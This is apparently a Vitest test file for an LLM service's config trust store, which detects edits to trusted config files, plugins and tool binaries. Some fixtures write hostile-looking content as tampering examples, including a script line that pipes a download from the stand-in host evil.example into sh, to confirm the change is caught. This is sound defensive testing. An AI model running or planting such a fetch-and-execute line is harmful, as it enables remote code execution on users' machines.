import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { assertTrusted, describeTrustChanges, hashConfigDir, TrustStoreFile } from './trust-store.js';

let root: string;
let env: Record<string, string>;
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'llm-service-trust-')));
  env = { HOME: join(root, 'home'), XDG_DATA_HOME: join(root, 'data') };
});
afterEach(() => {
  rmSync(root, { recursive: true, force: true });
});

function configDir(name: string): string {
  const dir = join(root, name, '.llm-service');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'agents.yaml'), 'version: 1\nagents: {}\n');
  writeFileSync(join(dir, 'tools.yaml'), 'version: 1\ntools: {}\n');
  writeFileSync(join(dir, 'models.yaml'), 'version: 1\nmodels: {}\n');
  return dir;
}

describe('TrustStoreFile', () => {
  it('lives in $XDG_DATA_HOME/llm-service, else ~/.local/share/llm-service', () => {
    expect(new TrustStoreFile(env).path).toBe(join(root, 'data', 'llm-service', 'trust.json'));
    expect(new TrustStoreFile({ HOME: env.HOME as string }).path).toBe(
      join(root, 'home', '.local', 'share', 'llm-service', 'trust.json'),
    );
  });

  it('is untrusted, then trusted, then changed once a file is edited, and untrusted for another directory', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('project');
    const other = configDir('other');
    expect(store.status(dir)).toBe('untrusted');

    const sha256 = store.trust(dir, new Date('2026-01-02T03:04:05.000Z'));
    expect(sha256).toBe(hashConfigDir(dir));
    expect(store.status(dir)).toBe('trusted');
    expect(new TrustStoreFile(env).status(dir)).toBe('trusted');
    expect(store.status(other)).toBe('untrusted');

    writeFileSync(join(dir, 'tools.yaml'), 'version: 1\ntools:\n  evil: { binary: /bin/sh, models: [x] }\n');
    expect(store.status(dir)).toBe('changed');
    store.trust(dir);
    expect(store.status(dir)).toBe('trusted');

    // Adding a file the config reads (plugins in llm-service.yaml) is a change too.
    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["./evil.js"]\n');
    expect(store.status(dir)).toBe('changed');

    const stored = JSON.parse(readFileSync(store.path, 'utf8')) as {
      version: number;
      trusted: Record<string, { sha256: string }>;
    };
    expect(stored.version).toBe(1);
    expect(Object.keys(stored.trusted)).toEqual([dir]);
  });

  it('writes the store readable by its owner only', () => {
    const store = new TrustStoreFile(env);
    store.trust(configDir('project'));
    expect(statSync(store.path).mode & 0o777).toBe(0o600);
    expect(statSync(join(root, 'data', 'llm-service')).mode & 0o777).toBe(0o700);
  });

  it('treats a directory reached through a symlink as the same directory', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('project');
    const link = join(root, 'link');
    symlinkSync(join(root, 'project'), link);
    store.trust(join(link, '.llm-service'));
    expect(store.status(dir)).toBe('trusted');
  });

  it('refuses a corrupt store with a usage error instead of a raw JSON error', () => {
    const store = new TrustStoreFile(env);
    mkdirSync(join(root, 'data', 'llm-service'), { recursive: true });
    writeFileSync(store.path, '{ not json');
    expect(() => store.status(configDir('project'))).toThrow(
      expect.objectContaining({ code: 'E_TRUST_STORE', exitCode: 2 }),
    );
    writeFileSync(store.path, '{"version": 2, "trusted": {}}');
    expect(() => store.status(configDir('project'))).toThrow(
      expect.objectContaining({ code: 'E_TRUST_STORE' }),
    );
  });
});

describe('assertTrusted', () => {
  it('refuses an untrusted or changed project config with a hint to trust it', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('project');
    expect(() => assertTrusted(dir, store)).toThrow(
      expect.objectContaining({
        code: 'E_CONFIG_UNTRUSTED',
        exitCode: 2,
        message: expect.stringContaining('is not trusted yet'),
      }),
    );
    store.trust(dir);
    expect(() => assertTrusted(dir, store)).not.toThrow();
    writeFileSync(join(dir, 'agents.yaml'), 'version: 1\nagents: { a: { preferred_tool: x } }\n');
    expect(() => assertTrusted(dir, store)).toThrow(
      expect.objectContaining({
        message: `the project config ${dir} has changed since it was trusted (modified: agents.yaml); it can name plugins and programs to run`,
        hint: expect.stringMatching(
          /^review those files .*then run `llm-service config trust --config-dir \S+`$/,
        ),
      }),
    );
  });

  it('names at most five changed files in its one line, then how many more', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('many');
    store.trust(dir);
    for (const index of [1, 2, 3, 4, 5, 6, 7]) writeFileSync(join(dir, `helper${index}.js`), 'export {};\n');
    expect(() => assertTrusted(dir, store)).toThrow(
      expect.objectContaining({
        message: expect.stringContaining(
          '(added: helper1.js, helper2.js, helper3.js, helper4.js, helper5.js; and 2 more files)',
        ),
      }),
    );
  });
});

describe('which files changed since a config was trusted', () => {
  it('lists added, removed and modified files, relative to the config directory', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('changes');
    mkdirSync(join(dir, 'plugins'));
    writeFileSync(join(dir, 'plugins', 'old.mjs'), 'export default {};\n');
    store.trust(dir, new Date('2026-01-02T03:04:05.000Z'));
    expect(store.check(dir)).toEqual({ status: 'trusted', trustedAt: '2026-01-02T03:04:05.000Z' });

    writeFileSync(join(dir, 'tools.yaml'), 'version: 1\ntools: {}\n# edited\n');
    writeFileSync(join(dir, 'plugins', 'new.mjs'), 'export default {};\n');
    rmSync(join(dir, 'plugins', 'old.mjs'));
    expect(store.check(dir)).toEqual({
      status: 'changed',
      trustedAt: '2026-01-02T03:04:05.000Z',
      changes: { added: ['plugins/new.mjs'], removed: ['plugins/old.mjs'], modified: ['tools.yaml'] },
    });

    const { before } = store.record(dir);
    expect(before.changes?.modified).toEqual(['tools.yaml']);
    expect(store.check(dir).status).toBe('trusted');
    expect(store.record(dir).before.status).toBe('trusted');
  });

  it('names a tool program and a plugin outside the directory by their full path', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('paths');
    const pkg = join(root, 'paths', 'plugin-pkg');
    mkdirSync(join(pkg, 'dist'), { recursive: true });
    writeFileSync(join(pkg, 'package.json'), '{"name":"plugin-pkg"}');
    writeFileSync(join(pkg, 'dist', 'index.js'), 'export default {};\n');
    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["../plugin-pkg/dist/index.js"]\n');
    mkdirSync(join(root, 'paths', 'bin'));
    writeFileSync(join(root, 'paths', 'bin', 'llm.sh'), '#!/bin/sh\n');
    writeFileSync(
      join(dir, 'tools.yaml'),
      'version: 1\ntools:\n  t: { binary: ../bin/llm.sh, models: [m] }\n',
    );
    store.trust(dir);
    writeFileSync(join(pkg, 'dist', 'index.js'), 'export default { evil: true };\n');
    writeFileSync(join(root, 'paths', 'bin', 'llm.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
    expect(store.check(dir).changes).toEqual({
      added: [],
      removed: [],
      modified: [join(root, 'paths', 'bin', 'llm.sh'), join(pkg, 'dist', 'index.js')],
    });
  });

  it('honours a record of the older format (no per-file digests) and upgrades it when trusted again', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('old-format');
    const other = configDir('other');
    mkdirSync(join(root, 'data', 'llm-service'), { recursive: true });
    const oldStore = {
      version: 1,
      trusted: {
        [dir]: { sha256: hashConfigDir(dir), trustedAt: '2025-06-01T00:00:00.000Z' },
        [other]: { sha256: 'f'.repeat(64), trustedAt: '2025-06-01T00:00:00.000Z', note: 'kept' },
      },
    };
    writeFileSync(store.path, JSON.stringify(oldStore));
    expect(store.check(dir)).toEqual({ status: 'trusted', trustedAt: '2025-06-01T00:00:00.000Z' });
    expect(() => assertTrusted(dir, store)).not.toThrow();

    writeFileSync(join(dir, 'agents.yaml'), 'version: 1\nagents: {}\n# edited\n');
    expect(store.check(dir)).toEqual({ status: 'changed', trustedAt: '2025-06-01T00:00:00.000Z' });
    expect(() => assertTrusted(dir, store)).toThrow(
      expect.objectContaining({ message: expect.stringContaining('which files changed is not known') }),
    );

    expect(store.record(dir).before).toEqual({ status: 'changed', trustedAt: '2025-06-01T00:00:00.000Z' });
    const stored = JSON.parse(readFileSync(store.path, 'utf8')) as {
      trusted: Record<string, { sha256: string; files?: Record<string, string>; note?: string }>;
    };
    expect(Object.keys(stored.trusted[dir]?.files ?? {})).toEqual([
      'file:agents.yaml',
      'file:models.yaml',
      'file:tools.yaml',
    ]);
    // Another entry, and a field this version does not know, survive the rewrite.
    expect(stored.trusted[other]).toEqual(oldStore.trusted[other]);
  });

  it('describes changes in one line, naming at most the limit', () => {
    const changes = { added: ['a.js', 'b.js'], removed: ['c.js'], modified: ['agents.yaml'] };
    expect(describeTrustChanges(changes)).toBe('modified: agents.yaml; added: a.js, b.js; removed: c.js');
    expect(describeTrustChanges(changes, 2)).toBe('modified: agents.yaml; added: a.js; and 2 more files');
    expect(describeTrustChanges(changes, 3)).toBe(
      'modified: agents.yaml; added: a.js, b.js; and 1 more file',
    );
  });
});

describe('hashConfigDir', () => {
  it('depends on content and on which file holds it', () => {
    const a = configDir('a');
    const b = configDir('b');
    expect(hashConfigDir(a)).toBe(hashConfigDir(b));
    writeFileSync(join(b, 'policies.yaml'), 'version: 1\n');
    expect(hashConfigDir(a)).not.toBe(hashConfigDir(b));
  });
});

describe('hashConfigDir and local plugins', () => {
  it('changes when a plugin module named by relative path changes', () => {
    const dir = mkdtempSync(join(tmpdir(), 'trust-plugin-'));
    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["./audit.mjs"]\n');
    writeFileSync(join(dir, 'audit.mjs'), 'export default {};\n');
    const before = hashConfigDir(dir);
    writeFileSync(join(dir, 'audit.mjs'), 'export default { changed: true };\n');
    expect(hashConfigDir(dir)).not.toBe(before);
    rmSync(dir, { recursive: true, force: true });
  });

  it('changes when a tool program named by a path in the project changes, not for one on PATH', () => {
    const dir = mkdtempSync(join(tmpdir(), 'trust-binary-'));
    mkdirSync(join(dir, 'bin'));
    writeFileSync(
      join(dir, 'tools.yaml'),
      'version: 1\ntools:\n  local: { binary: ./bin/llm.sh, models: [m] }\n  onpath: { binary: codex, models: [m] }\n',
    );
    writeFileSync(join(dir, 'bin', 'llm.sh'), '#!/bin/sh\necho answer\n');
    const before = hashConfigDir(dir);
    writeFileSync(join(dir, 'bin', 'llm.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
    expect(hashConfigDir(dir)).not.toBe(before);
    rmSync(dir, { recursive: true, force: true });
  });
});

describe('trust covers every file a config can load', () => {
  it('changes when a helper module of a local plugin changes, not only the module named', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('helpers');
    mkdirSync(join(dir, 'plugins', 'audit', 'lib'), { recursive: true });
    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["./plugins/audit/index.mjs"]\n');
    writeFileSync(join(dir, 'plugins', 'audit', 'index.mjs'), "export { default } from './lib/impl.mjs';\n");
    writeFileSync(join(dir, 'plugins', 'audit', 'lib', 'impl.mjs'), 'export default {};\n');
    store.trust(dir);
    expect(store.status(dir)).toBe('trusted');
    writeFileSync(join(dir, 'plugins', 'audit', 'lib', 'impl.mjs'), 'export default { evil: true };\n');
    expect(store.status(dir)).toBe('changed');
  });

  it('changes when a package in a node_modules beside the config changes', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('modules');
    const pkg = join(dir, 'node_modules', 'acme-plugin');
    mkdirSync(pkg, { recursive: true });
    writeFileSync(join(pkg, 'package.json'), '{"name":"acme-plugin","type":"module"}');
    writeFileSync(join(pkg, 'index.js'), 'export default {};\n');
    store.trust(dir);
    writeFileSync(join(pkg, 'index.js'), 'export default { evil: true };\n');
    expect(store.status(dir)).toBe('changed');
  });

  it('covers the whole package of a plugin named by a path outside the config', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('outside');
    const pkg = join(root, 'outside', 'plugin-pkg');
    mkdirSync(join(pkg, 'dist', 'lib'), { recursive: true });
    writeFileSync(join(pkg, 'package.json'), '{"name":"plugin-pkg"}');
    writeFileSync(join(pkg, 'dist', 'index.js'), 'export * from "./lib/a.js";\n');
    writeFileSync(join(pkg, 'dist', 'lib', 'a.js'), 'export default {};\n');
    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["../plugin-pkg/dist/index.js"]\n');
    store.trust(dir);
    writeFileSync(join(pkg, 'dist', 'lib', 'a.js'), 'export default { evil: true };\n');
    expect(store.status(dir)).toBe('changed');
  });

  it('sees an edit that keeps the size and sets the modification time back', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('touch');
    writeFileSync(join(dir, 'helper.js'), 'export const mode = "safe";\n');
    store.trust(dir);
    const { atime, mtime } = statSync(join(dir, 'helper.js'));
    writeFileSync(join(dir, 'helper.js'), 'export const mode = "evil";\n');
    utimesSync(join(dir, 'helper.js'), atime, mtime);
    expect(store.status(dir)).toBe('changed');
  });

  it('ignores files that load nothing, such as a database kept beside the config', () => {
    const store = new TrustStoreFile(env);
    const dir = configDir('data');
    store.trust(dir);
    writeFileSync(join(dir, 'telemetry.db'), 'rows');
    writeFileSync(join(dir, 'notes.txt'), 'hello');
    expect(store.status(dir)).toBe('trusted');
  });
});
